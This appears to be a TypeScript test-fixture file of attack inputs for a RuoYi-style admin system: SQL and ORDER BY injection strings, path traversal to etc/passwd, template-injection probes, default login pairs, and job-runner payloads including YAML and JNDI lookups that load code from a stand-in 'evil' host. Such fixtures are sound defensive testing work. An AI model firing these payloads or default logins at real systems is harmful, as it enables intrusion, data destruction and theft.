/** Texts that would run as SQL where text is spliced into statements. */
export const SQL = [
  "' or '1'='1",
  "' or 1=1--",
  "'; drop table sys_user;--",
  'and 1=1--',
  'and (select 1 from pg_sleep(5)) is not null',
  'or extractvalue(1,concat(0x7e,user()))',
  "1' union select password from sys_user--",
  '1;select pg_sleep(5)--',
  "') or ('1'='1",
  '/**/or/**/1=1',
  "' || (select version()) || '",
  '\\',
  '%',
  "%' escape '",
] as const;

/** Orders that no list offers (RuoYi #310, ruoyi-go CVE-2025-9413). */
export const ORDERS = [
  '(select 1)',
  'case when (select 1)=1 then 1 else 2 end',
  '(CASE WHEN substring(user(),1,1) LIKE 0x72 THEN 1 ELSE 2 END)',
  'user_id,(select pg_sleep(5))',
  'password',
  '1',
  'user_id; drop table sys_user',
  'user_id desc nulls first',
  'create_time/**/asc',
] as const;

/** Ways to leave a folder. */
export const TRAVERSALS = [
  '../',
  '..\\',
  '%2e%2e/',
  '..%2f',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '....//',
  '..;/',
  '..%c0%af',
  '..%5c',
  '/',
  '//',
  'file:///',
  '\\\\host\\share\\',
  'C:\\',
].flatMap((up) =>
  [1, 2, 4, 8].flatMap((depth) =>
    ['etc/passwd', 'releases/keys'].map((end) => up.repeat(depth) + end),
  ),
);

/** Targets of the job runner that once ran as code. */
export const TARGETS = [
  'org.yaml.snakeyaml.Yaml.load(\'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]\')',
  "javax.naming.InitialContext.lookup('ldap://evil/x')",
  "require('child_process').exec('id')",
  "constructor.constructor('return process')()",
  "ryTask.ryParams('x')",
  "genTableServiceImpl.createTable('create table x as select 1')",
  'log.retention(process.exit(1))',
  'log.retention(90);process.exit(1)',
  '../../x.js',
  'data:text/javascript,process.exit(1)',
  'log.retention(`id`)',
  '__proto__.polluted(1)',
] as const;

/** Texts that a template engine would evaluate to 49, or worse. */
export const TEMPLATES = [
  '{{7*7}}',
  '\x24{7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '__\x24{T(java.lang.Runtime).getRuntime()}__::.x',
] as const;

/** Names and passwords that products of this family were shipped with. */
export const DEFAULT_LOGINS = [
  'admin',
  'ruoyi',
  'ry',
  'root',
  'guest',
  'test',
  'druid',
  'superadmin',
].flatMap((name) =>
  ['admin123', '123456', 'admin', 'ruoyi', 'password'].map((password) => [name, password] as const),
);
